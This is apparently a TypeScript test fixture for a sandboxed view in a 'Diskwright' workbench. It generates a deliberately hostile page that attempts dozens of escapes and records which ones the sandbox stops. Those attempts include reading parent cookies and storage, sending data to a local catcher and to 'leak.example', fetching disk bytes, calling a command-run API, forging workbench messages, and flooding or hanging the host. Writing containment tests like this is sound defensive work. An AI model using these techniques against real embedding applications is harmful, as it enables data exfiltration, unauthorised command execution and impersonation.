/** The script of a page that tries everything that it must not be able to do, and writes down what came of each. */

/** @param port where a catcher listens @param origin of the workbench */
export const hostilePage = (port: number, origin: string): string => `
  import { acquireDiskwright } from '@diskwright/sdk/view';
  const CATCHER = 'http://127.0.0.1:${port}', NAMED = 'http://leak.example:${port}', WORKBENCH = '${origin}';
  const report = {};
  const errorOf = (error) => 'stopped: ' + (error?.name ?? error);
  const attempt = async (name, action) => {
    const late = new Promise((resolve) => setTimeout(() => resolve('nothing happened'), 1500));
    try { report[name] = String(await Promise.race([action(), late])); } catch (error) { report[name] = errorOf(error); }
  };
  const loaded = (element, where = document.body) => new Promise((resolve) => {
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('stopped: error');
    where.append(element);
  });
  const make = (tag, values) => Object.assign(document.createElement(tag), values);
  const opened = (socket) => new Promise((resolve) => { socket.onopen = () => resolve('open'); socket.onerror = () => resolve('stopped: error'); });

  await Promise.all([
    attempt('parent document', () => parent.document.title),
    attempt('parent storage', () => parent.localStorage.length),
    attempt('parent cookies', () => parent.document.cookie),
    attempt('own cookies', () => { document.cookie = 'a=1'; return document.cookie; }),
    attempt('local storage', () => localStorage.length),
    attempt('session storage', () => sessionStorage.length),
    attempt('databases', () => new Promise((resolve, reject) => { const request = indexedDB.open('a'); request.onsuccess = () => resolve('open'); request.onerror = () => reject(request.error); })),
    attempt('cache storage', () => caches.open('a')),
    attempt('service worker', () => navigator.serviceWorker.register('index.js')),
    attempt('worker', () => opened(Object.assign(new Worker('index.js'), {}))),
    attempt('fetch', () => fetch(CATCHER + '/fetch')),
    attempt('fetch without answer', () => fetch(CATCHER + '/no-cors', { mode: 'no-cors' })),
    attempt('fetch own host', () => fetch('/own-' + 'secret')),
    attempt('fetch workbench', () => fetch(WORKBENCH + '/api/devices/1/bytes?offset=0&length=512', { credentials: 'include', mode: 'no-cors' })),
    attempt('run a command', () => fetch(WORKBENCH + '/api/run', { method: 'POST', body: '{"command":"x"}', mode: 'no-cors' })),
    attempt('xhr', () => new Promise((resolve) => { const x = new XMLHttpRequest(); x.onload = () => resolve('loaded'); x.onerror = () => resolve('stopped: error'); x.open('GET', CATCHER + '/xhr'); x.send(); })),
    attempt('websocket', () => opened(new WebSocket('ws://127.0.0.1:${port}/ws'))),
    attempt('workbench websocket', () => opened(new WebSocket(WORKBENCH.replace('http', 'ws') + '/api/rpc'))),
    attempt('event source', () => opened(new EventSource(CATCHER + '/events'))),
    attempt('beacon', () => 'sent: ' + navigator.sendBeacon(CATCHER + '/beacon', 'x')),
    attempt('image', () => loaded(make('img', { src: CATCHER + '/image' }))),
    attempt('workbench image', () => loaded(make('img', { src: WORKBENCH + '/icon.svg' }))),
    attempt('script', () => loaded(make('script', { src: CATCHER + '/script' }))),
    attempt('inline script', () => { const s = make('script', { textContent: 'globalThis.inline = 1' }); document.body.append(s); return globalThis.inline ? 'ran' : 'stopped: did not run'; }),
    attempt('eval', () => (0, eval)('1 + 1')),
    attempt('import', () => import(CATCHER + '/import')),
    attempt('style', () => loaded(make('link', { rel: 'stylesheet', href: CATCHER + '/style' }), document.head)),
    attempt('video', () => loaded(make('video', { src: CATCHER + '/video' }))),
    attempt('object', () => loaded(make('object', { data: CATCHER + '/object' }))),
    attempt('frame', () => { document.body.append(make('iframe', { src: CATCHER + '/frame' })); return 'put there'; }),
    attempt('form', () => { const form = make('form', { action: CATCHER + '/form', method: 'post' }); document.body.append(form); form.submit(); return 'put there'; }),
    attempt('window', () => 'opened: ' + window.open(CATCHER + '/window')),
    attempt('link', () => { const a = make('a', { href: CATCHER + '/link', target: '_blank' }); document.body.append(a); a.click(); return 'clicked'; }),
    attempt('download', () => { const a = make('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'x.txt' }); document.body.append(a); a.click(); return 'clicked'; }),
    attempt('top navigation', () => { top.location.href = CATCHER + '/top'; return 'set'; }),
    attempt('preconnect', () => { document.head.append(make('link', { rel: 'preconnect', href: CATCHER })); return 'put there'; }),
    attempt('preconnect by name', () => { document.head.append(make('link', { rel: 'preconnect', href: NAMED })); return 'put there'; }),
    attempt('dns prefetch', () => { document.head.append(make('link', { rel: 'dns-prefetch', href: NAMED })); return 'put there'; }),
    attempt('prefetch', () => { document.head.append(make('link', { rel: 'prefetch', href: NAMED + '/prefetch' })); return 'put there'; }),
    attempt('module preload', () => { document.head.append(make('link', { rel: 'modulepreload', href: NAMED + '/module' })); return 'put there'; }),
    attempt('speculation', () => { document.head.append(make('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [NAMED + '/speculation'] }] }) })); return 'put there'; }),
    attempt('webrtc', () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); c.createDataChannel('x'); return c.setLocalDescription().then(() => 'gathers'); }),
    attempt('webrtc of an empty frame', () => { const f = make('iframe', {}); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection; }),
    attempt('webrtc of a written frame', () => new Promise((resolve) => {
      addEventListener('message', ({ data }) => data?.inner && resolve(data.inner));
      document.body.append(make('iframe', { srcdoc: '<script src="' + location.origin.replace('null', '') + new URL('inner.js', location.href) + '"></' + 'script>' }));
    })),
    attempt('web transport', () => new WebTransport('https://127.0.0.1:${port}/')),
    attempt('clipboard', () => navigator.clipboard.readText()),
    attempt('another view', () => { const other = [...Array(parent.length).keys()].map((i) => parent[i]).find((frame) => frame !== window); return other.document.title; }),
    attempt('navigate another view', () => { const other = [...Array(parent.length).keys()].map((i) => parent[i]).find((frame) => frame !== window); other.location.href = CATCHER + '/other'; return 'set'; }),
    attempt('speak as the workbench', () => { const other = [...Array(parent.length).keys()].map((i) => parent[i]).find((frame) => frame !== window); const { port2 } = new MessageChannel(); other.postMessage({ diskwright: 'diskwright:connect', subject: 'FORGED', state: null, theme: { colors: {} }, visible: true }, '*', [port2]); return 'sent'; }),
  ]);
  document.getElementById('report').textContent = JSON.stringify(report);
  const diskwright = await acquireDiskwright();
  Object.assign(globalThis, {
    flood: () => setInterval(() => { for (let i = 0; i < 5000; i++) parent.postMessage('x', '*'); }),
    floodPort: () => setInterval(() => { for (let i = 0; i < 5000; i++) diskwright.request('echo', 1).catch(() => undefined); }),
    hang: () => { for (;;); },
    spoofKeys: async () => {
      for (let i = 0; i < 20; i++) dispatchEvent(new KeyboardEvent('keydown', { key: 'F1' }));
      await diskwright.request('echo', 1);
      document.body.append(make('i', { id: 'after' }));
    },
    leaveFrame: () => { location.href = CATCHER + '/self'; },
  });
  const wanted = await diskwright.request('wanted');
  if (wanted) {
    await diskwright.request('begins');
    globalThis[wanted]();
  }
`;

/** A script in a frame that a page has written, which has a global object of its own. */
export const INNER_SCRIPT = `parent.postMessage({ inner: typeof RTCPeerConnection }, '*');`;
